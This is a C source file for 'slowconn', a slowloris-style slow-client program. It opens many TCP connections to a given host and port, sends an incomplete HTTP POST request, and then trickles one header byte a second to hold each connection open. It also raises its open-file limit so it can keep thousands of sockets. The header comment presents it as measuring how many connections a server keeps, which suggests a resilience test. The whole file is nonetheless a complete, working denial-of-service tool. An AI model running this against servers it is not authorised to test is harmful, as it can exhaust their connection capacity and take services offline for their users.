/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * slowconn FROM HOST PORT COUNT SECONDS: a slow client (slowloris).  Opens
 * COUNT connections from address FROM to HOST:PORT, sends a request line,
 * then one header byte a second on each for SECONDS; prints how many
 * connections the server kept open to the end ("kept N of COUNT").
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

static const char request[] = "POST /api/v1/bundles HTTP/1.1\r\nHost: x\r\n";

static int open_one(const struct sockaddr_in *from,
		    const struct sockaddr_in *to)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0)
		return -1;
	if (bind(fd, (const struct sockaddr *)from, sizeof(*from)) ||
	    connect(fd, (const struct sockaddr *)to, sizeof(*to)) ||
	    send(fd, request, sizeof(request) - 1, MSG_NOSIGNAL) < 0) {
		close(fd);
		return -1;
	}
	return fd;
}

/* One header byte on every open connection; a closed one is dropped. */
static unsigned drip(int *fds, unsigned n)
{
	unsigned open = 0;

	for (unsigned i = 0; i < n; i++) {
		char c;

		if (fds[i] < 0)
			continue;
		/* The server closed it: a read sees the end or a reset. */
		if (recv(fds[i], &c, 1, MSG_DONTWAIT) == 0 ||
		    send(fds[i], "X", 1, MSG_NOSIGNAL) < 0) {
			close(fds[i]);
			fds[i] = -1;
			continue;
		}
		open++;
	}
	return open;
}

int main(int argc, char **argv)
{
	struct sockaddr_in from = { .sin_family = AF_INET };
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct rlimit rl;
	unsigned n, secs, open = 0;
	int *fds;

	if (argc != 6 || inet_pton(AF_INET, argv[1], &from.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[2], &to.sin_addr) != 1) {
		fprintf(stderr, "usage: slowconn FROM HOST PORT COUNT SECONDS\n");
		return 2;
	}
	to.sin_port = htons((unsigned short)atoi(argv[3]));
	n = (unsigned)atoi(argv[4]);
	secs = (unsigned)atoi(argv[5]);
	/* COUNT sockets need more than the usual soft limit of 1,024. */
	if (!getrlimit(RLIMIT_NOFILE, &rl) && rl.rlim_cur < n + 64) {
		rl.rlim_cur = rl.rlim_max < n + 64 ? rl.rlim_max : n + 64;
		setrlimit(RLIMIT_NOFILE, &rl);
	}
	fds = calloc(n, sizeof(*fds));
	if (!fds)
		return 1;
	for (unsigned i = 0; i < n; i++)
		fds[i] = open_one(&from, &to);
	printf("opened %u\n", drip(fds, n));
	fflush(stdout);
	for (unsigned s = 0; s < secs; s++) {
		sleep(1);
		open = drip(fds, n);
	}
	printf("kept %u of %u\n", open, n);
	for (unsigned i = 0; i < n; i++)
		if (fds[i] >= 0)
			close(fds[i]);
	free(fds);
	return 0;
}
